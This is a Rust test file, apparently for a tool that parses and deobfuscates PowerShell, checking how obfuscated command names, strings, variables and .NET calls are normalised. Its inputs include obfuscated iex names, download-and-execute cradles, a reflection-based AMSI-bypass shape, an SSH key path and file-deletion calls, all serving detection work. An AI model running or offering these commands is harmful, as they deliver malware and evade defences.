//! Expressions: what is folded, and what is kept when it cannot be.

use super::check;

#[test]
fn names_in_pieces() {
    check(&[
        ("& ('i'+'ex') 'x'", r#"(cmd "invoke-expression" "x")"#),
        (r#"&("{1}{0}" -f 'x','ie') 'payload'"#, r#"(cmd "invoke-expression" "payload")"#),
        ("& (-join('i','e','x')) 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ([char]105+[char]101+[char]120) 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ('xei'[-1..-3] -join '') 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ('i-e-x' -replace '-','') 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ('iqx'.Replace('q','e')) 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ([string]::Join('', [char[]](105,101,120))) 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& (('IEX').ToLower().Substring(0,3)) 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ([char](35+70)+'ex') 'p'", r#"(cmd "invoke-expression" "p")"#),
        ("& ([char](105 -bxor 0)+'ex') 'p'", r#"(cmd "invoke-expression" "p")"#),
        (r#"&("{0}ex" -f [char]0x69) 'p'"#, r#"(cmd "invoke-expression" "p")"#),
        ("& ((1..3 -join '') + 'x')", r#"(cmd "123x")"#),
        (r#"& ("ie" + "x".Insert(0,''))"#, r#"(cmd "invoke-expression")"#),
    ]);
}

#[test]
fn unknown_pieces() {
    check(&[
        (
            "$env:ComSpec[4,24,25] -join '' | foo",
            r#"(pipe (cmd "write-output" (word ? $env:COMSPEC)) (cmd "foo"))"#,
        ),
        ("$x + (foo) + 'a'", r#"(cmd "write-output" (word $x (out (cmd "foo")) "a"))"#),
        ("$x -replace 'a','b' | iex", r#"(pipe (cmd "write-output" (word ? $x)) (cmd "invoke-expression"))"#),
        (
            "$a ? (b) : (c)",
            r#"(if () (arm (cmd "write-output" (out (cmd "b")))) (arm (cmd "write-output" (out (cmd "c")))))"#,
        ),
        ("'x' * 3 | foo", r#"(pipe (cmd "write-output" "xxx") (cmd "foo"))"#),
        (
            "[IO.Path]::Combine($HOME, 'x') | foo",
            r#"(pipe (cmd "write-output" (word $HOME "/x")) (cmd "foo"))"#,
        ),
        (
            r"('{0}\{1}' -f $env:TEMP, 'x.exe') | foo",
            r#"(pipe (cmd "write-output" (word $env:TEMP "\\x.exe")) (cmd "foo"))"#,
        ),
        (
            "[string]::Format('{0}{1}', 'a', $b) | foo",
            r#"(pipe (cmd "write-output" (word "a" $b)) (cmd "foo"))"#,
        ),
        ("$a ?? $b ?? (c)", r#"(cmd "write-output" ${a:-${b:-(out (cmd "c"))}})"#),
        ("'{0:X}' -f 5 | foo", r#"(pipe (cmd "write-output" ?) (cmd "foo"))"#),
        ("'{0}{0}' -f (a) | foo", r#"(pipe (cmd "write-output" (word ? (out (cmd "a")))) (cmd "foo"))"#),
        ("$x -eq (foo) -and (bar)", r#"(cmd "foo") (cmd "bar")"#),
        (
            "(gc x) -match 'key' | foo",
            r#"(pipe (cmd "write-output" (word ? (out (cmd "get-content" "x")))) (cmd "foo"))"#,
        ),
        ("'abc' -replace 'a.c','x' | foo", r#"(pipe (cmd "write-output" ?) (cmd "foo"))"#),
        (r#""a$(b)c" * 2 | foo"#, r#"(pipe (cmd "write-output" (word ? (out (cmd "b")))) (cmd "foo"))"#),
        ("1 + $x", ""),
        ("@(1,2) + 3 | foo", r#"(pipe (cmd "write-output" (list "1" "2" "3")) (cmd "foo"))"#),
        ("$x + 1 | foo", r#"(pipe (cmd "write-output" (word ? $x)) (cmd "foo"))"#),
    ]);
}

#[test]
fn strings() {
    check(&[
        (
            r#""a $($x.y) b" | Out-File z"#,
            r#"(pipe (cmd "write-output" (word "a " $x[.y] " b")) (cmd "out-file" "z"))"#,
        ),
        (
            r#""$env:USERPROFILE\.ssh\id_rsa""#,
            r#"(cmd "write-output" (word $env:USERPROFILE "\\.ssh\\id_rsa"))"#,
        ),
        (
            r#""${env:HOME}/x $x:y $($a)b `$c ""q"" $""#,
            r#"(cmd "write-output" (word $env:HOME "/x " $x:y " " $a "b $c \"q\" $"))"#,
        ),
        ("'it''s'", r#"(cmd "write-output" "it's")"#),
        (
            "@\"\nhello $name\n$(rm x)\n\"@ | sh",
            r#"(pipe (cmd "write-output" (word "hello " $name "\n" (out (cmd "remove-item" "x")))) (cmd "sh"))"#,
        ),
        ("@'\nlit $x\n'@", r#"(cmd "write-output" "lit $x")"#),
        ("“a $x” | iex", r#"(pipe (cmd "write-output" (word "a " $x)) (cmd "invoke-expression"))"#),
        (r#""`u{41}`t`e" | foo"#, r#"(pipe (cmd "write-output" "A\te") (cmd "foo"))"#),
        (
            r#""a $($b; c) d" | foo"#,
            r#"(pipe (cmd "write-output" (word "a " (out (cmd "write-output" $b) (cmd "c")) " d")) (cmd "foo"))"#,
        ),
        (
            r#""http://$server/x" | foo"#,
            r#"(pipe (cmd "write-output" (word "http://" $server "/x")) (cmd "foo"))"#,
        ),
        (
            r#""$x.y $x[0] $($x[0])" | foo"#,
            r#"(pipe (cmd "write-output" (word $x ".y " $x "[0] " $x[0])) (cmd "foo"))"#,
        ),
        (r#""$a $($null) $true" | foo"#, r#"(pipe (cmd "write-output" (word $a "  True")) (cmd "foo"))"#),
        ("foo @'\na\n'@ b", r#"(cmd "foo" "a" "b")"#),
        (
            r#""nested $("in $(b)")" | foo"#,
            r#"(pipe (cmd "write-output" (word "nested in " (out (cmd "b")))) (cmd "foo"))"#,
        ),
    ]);
}

#[test]
fn variables() {
    check(&[
        ("$env:X", r#"(cmd "write-output" $env:X)"#),
        ("$args[0]; $args", r#"(cmd "write-output" $1) (cmd "write-output" $@)"#),
        (r"${c:\temp\x.txt} = 'evil'", r#"(cmd "set-content" "c:\\temp\\x.txt" "evil")"#),
        ("$x.Prop.Other = 5", r#"(set x.prop.other "5")"#),
        ("$a[0].b[1]", r#"(cmd "write-output" $a[0.b[1]])"#),
        (
            "$h = @{}; $h['k'] = (rm x); $h.k",
            r#"(set h (list)) (set h[k] (out (cmd "remove-item" "x"))) (cmd "write-output" $h[.k])"#,
        ),
        (
            "$script:x; $global:Y; $using:z; ${a b}",
            r#"(cmd "write-output" $x) (cmd "write-output" $y) (cmd "write-output" $z) (cmd "write-output" $a b)"#,
        ),
        (
            "$HOME; $Pwd; $PWD.Path; $x.Length",
            r#"(cmd "write-output" $HOME) (cmd "write-output" $PWD) (cmd "write-output" $PWD) (cmd "write-output" ${#x})"#,
        ),
        (
            "$PSScriptRoot; $_; $PSItem",
            r#"(cmd "write-output" $psscriptroot) (cmd "write-output" $_) (cmd "write-output" $_)"#,
        ),
        ("$c:foo", r#"(cmd "write-output" $c:foo)"#),
        ("$true; $false; $null", r#"(cmd "write-output" "True") (cmd "write-output" "False")"#),
    ]);
}

#[test]
fn calls() {
    check(&[
        ("[System.IO.File]::Delete($p)", r#"(cmd "ps:[system.io.file]::delete" $p)"#),
        (
            r#"[IO.Directory]::Delete("C:\x", $true)"#,
            r#"(cmd "ps:[system.io.directory]::delete" "C:\\x" "True")"#,
        ),
        (
            "(New-Object Net.WebClient).DownloadString('http://u') | iex",
            r#"(pipe (cmd "ps:.downloadstring" "--self" (out (cmd "new-object" "Net.WebClient")) "http://u") (cmd "invoke-expression"))"#,
        ),
        (
            r#"$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://u', "$env:TEMP\a.exe")"#,
            r#"(set wc (out (cmd "new-object" "System.Net.WebClient"))) (cmd "ps:.downloadfile" "--self" $wc "http://u" (word $env:TEMP "\\a.exe"))"#,
        ),
        (
            "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('ZQBjAGgAbwA='))",
            r#"(cmd "ps:.getstring" "--self" (out (cmd "ps:[system.text.encoding]::unicode")) (out (cmd "ps:[system.convert]::frombase64string" "ZQBjAGgAbwA=")))"#,
        ),
        (
            r#"$x.$m('a'); $x.('Do'+'It')('b'); $x."Foo"()"#,
            r#"(cmd (word "ps:." $m) "--self" $x "a") (cmd "ps:.doit" "--self" $x "b") (cmd "ps:.foo" "--self" $x)"#,
        ),
        ("([type]'IO.File')::Delete('x')", r#"(cmd "ps:[system.io.file]::delete" "x")"#),
        ("$t::Delete('x')", r#"(cmd (word "ps:[" $t "]::" "delete") "x")"#),
        (
            "([wmiclass]'win32_process').Create('calc')",
            r#"(cmd "ps:.create" "--self" "win32_process" "calc")"#,
        ),
        (
            "[Ref].Assembly.GetType('a').GetField('b','c').SetValue($null,$true)",
            r#"(cmd "ps:.setvalue" "--self" (out (cmd "ps:.getfield" "--self" (out (cmd "ps:.gettype" "--self" (out (cmd "ps:.assembly" "--self" "[system.management.automation.psreference]")) "a")) "b" "c")) "" "True")"#,
        ),
        (
            "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'",
            r#"(cmd "ps:[system.net.servicepointmanager]::securityprotocol=" "Tls12")"#,
        ),
        (
            "[scriptblock]::Create('x').Invoke()",
            r#"(cmd "ps:.invoke" "--self" (out (cmd "ps:[system.management.automation.scriptblock]::create" "x")))"#,
        ),
        ("{ rm x }.Invoke()", r#"(cmd "remove-item" "x")"#),
        (
            "(1,2,3).ForEach({ rm $_ })",
            r#"(pipe (cmd "write-output" (list "1" "2" "3")) (cmd "foreach-object" (block (cmd "remove-item" $_))))"#,
        ),
        (
            "[Diagnostics.Process]::Start('cmd','/c del x')",
            r#"(cmd "ps:[system.diagnostics.process]::start" "cmd" "/c del x")"#,
        ),
        ("$x?.Foo()", r#"(cmd "ps:.foo" "--self" $x)"#),
        ("$x?[0]", r#"(cmd "write-output" $x[0])"#),
        (
            "(foo).Content | iex",
            r#"(pipe (cmd "ps:.content" "--self" (out (cmd "foo"))) (cmd "invoke-expression"))"#,
        ),
        (
            "iex ((New-Object System.Net.WebClient).DownloadString('https://x'))",
            r#"(cmd "invoke-expression" (out (cmd "ps:.downloadstring" "--self" (out (cmd "new-object" "System.Net.WebClient")) "https://x")))"#,
        ),
        (r#"iex "$(irm u)""#, r#"(cmd "invoke-expression" (out (cmd "invoke-restmethod" "u")))"#),
        ("[File]::WriteAllText('a', $b)", r#"(cmd "ps:[system.io.file]::writealltext" "a" $b)"#),
        (
            "[Convert]::ToString(1); [Environment]::Exit(1); [Runtime.InteropServices.Marshal]::Copy(1)",
            r#"(cmd "ps:[system.convert]::tostring" "1") (cmd "ps:[system.environment]::exit" "1") (cmd "ps:[system.runtime.interopservices.marshal]::copy" "1")"#,
        ),
        ("'IO.File' -as [type]", r#"(cmd "write-output" "[system.io.file]")"#),
        (
            "[Collections.Generic.List[string]]::new()",
            r#"(cmd "ps:[system.collections.generic.list[string]]::new")"#,
        ),
        (
            "$x.Where{ rm $_ }",
            r#"(pipe (cmd "write-output" $x) (cmd "where-object" (block (cmd "remove-item" $_))))"#,
        ),
        ("(Get-Location).Path | foo", r#"(pipe (cmd "pwd") (cmd "foo"))"#),
    ]);
}
